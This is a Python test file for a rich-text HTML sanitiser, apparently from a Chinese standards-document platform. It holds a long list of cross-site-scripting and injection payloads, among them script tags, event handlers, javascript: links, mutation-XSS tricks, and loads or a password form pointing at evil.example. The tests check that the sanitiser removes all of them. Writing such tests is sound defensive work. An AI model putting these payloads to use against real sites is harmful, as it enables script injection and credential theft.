"""Rich text keeps what the editor makes and nothing that could run, load or disguise anything."""

import re

import pytest

from gongyi.kit import rich_text

OWN = "0f8fad5b-d9cb-469f-a165-70867728950e"
OTHER = "7c9e6679-7425-40de-944b-e07fc1f90ae7"
SRC = f"/files/{OWN}/"

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    f'<img src="{SRC}" onerror=alert(1) onload=alert(1)>',
    f"<img src='{SRC}' style='position:fixed;inset:0'>",
    "<img src=javascript:alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    f'<img src="/files/{OTHER}/">',
    f'<img src="/files/{OWN}/../../accounts/sign-out/">',
    f'<img src="{SRC}?x=1">',
    f'<img srcset="https://evil.example/a.png 1x" src="{SRC}">',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="https://ok.example/" onclick="alert(1)" target="_blank" style="color:red">x</a>',
    '<a href="https://ok.example/" ping="https://evil.example/">x</a>',
    '<p onmouseover="alert(1)">x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p class="gy-dialog" id="main" data-confirm="x">x</p>',
    '<div hx-get="/accounts/sign-out/" hx-trigger="load">x</div>',
    '<div x-data="{}" x-init="alert(1)">x</div>',
    '<form action="https://evil.example/"><input name="password"><button>ok</button></form>',
    '<input autofocus onfocus="alert(1)">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><p>x</p>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<figure data-trix-attachment=\'{"contentType":"text/html","content":"<img src=x onerror=alert(1)>"}\'>x</figure>',
    '"><script>alert(1)</script>',
    "<x-widget onclick=alert(1)>x</x-widget>",
    f"<img alt='\"><script>alert(1)</script>' src='{SRC}'>",
    f"<img alt='a>b' src='/files/{OTHER}/'>",
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
]
TAG = re.compile(r"<(/?)([a-z0-9]+)((?:\s+[a-z-]+=\"[^\"]*\")*)\s*>")


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_survives(attack):
    """S3-61: of the text of an institution strangers run nothing; what is left is made of the allow-list alone."""
    cleaned = rich_text.clean(f"<p>before</p>{attack}<p>after</p>", pictures={OWN})
    assert "before" in cleaned
    rest = cleaned
    for closing, tag, attributes in TAG.findall(cleaned):
        assert tag in rich_text.TAGS
        names = dict(re.findall(r'([a-z-]+)="([^"]*)"', attributes))
        assert not closing or not names
        assert names.keys() <= {"img": {"src", "alt", "width", "height"}, "a": {"href", "rel"}}.get(tag, set())
        if tag == "img":
            assert names["src"] == SRC
        if tag == "a" and "href" in names:
            assert names["href"].startswith(("https://", "http://", "mailto:", "tel:")) or re.match(
                r"/[^/\\]", names["href"]
            )
            assert names["rel"] == "noopener nofollow"
    rest = TAG.sub("", rest)
    assert "<" not in rest
    assert rich_text.clean(cleaned, pictures={OWN}) == cleaned


def test_what_the_editor_makes_stays():
    text = (
        "<h3>适用范围</h3><p>整车 <strong>与</strong> <em>零部件</em>，<del>旧版</del> 见 "
        '<a href="https://openstd.example/">标准</a><br>第二行</p><ul><li>一</li><li>二</li></ul><ol><li>三</li></ol>'
        f'<blockquote>引用</blockquote><pre>a &lt; b</pre><figure><img src="{SRC}" width="640" height="360">'
        "<figcaption>暗室</figcaption></figure>"
    )
    cleaned = rich_text.clean(text, pictures={OWN})
    assert cleaned == text.replace('example/">', 'example/" rel="noopener nofollow">')
    assert rich_text.pictures_in(cleaned) == [OWN]


def test_text_pasted_from_a_word_processor_keeps_its_words_and_loses_its_clothes():
    pasted = (
        '<!--StartFragment--><p class="MsoNormal" style="mso-margin-top-alt:auto"><span lang="EN-US" style="font-size:12pt">'
        "<o:p></o:p>试验<b>条件</b></span></p><style>p.MsoNormal{margin:0}</style><xml><w:WordDocument/></xml>"
    )
    assert rich_text.clean(pasted) == "<p>试验<b>条件</b></p>"


def test_an_empty_editor_gives_an_empty_text():
    assert rich_text.clean("<p><br></p><div> </div><p></p>") == ""
    assert (
        rich_text.clean(f'<figure><img src="/files/{OTHER}/"><figcaption>没了</figcaption></figure>', pictures={OWN})
        == ""
    )


def test_the_words_of_a_text_come_line_by_line():
    assert rich_text.text_of("<h3>甲</h3><p>乙 &lt;b&gt;<br>丙</p><ul><li>丁</li></ul>") == "甲\n乙 <b>\n丙\n丁"
